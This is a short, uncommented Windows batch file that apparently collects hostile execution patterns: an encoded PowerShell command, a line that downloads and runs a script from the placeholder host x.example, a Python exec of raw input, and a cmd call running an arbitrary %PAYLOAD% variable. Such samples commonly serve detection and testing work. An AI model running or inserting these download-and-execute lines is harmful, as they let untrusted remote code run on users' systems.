@echo off
powershell -enc bABzAA==
powershell -Command "iex (irm https://x.example/a)"
python -c "exec(input())"
cmd /c %PAYLOAD%
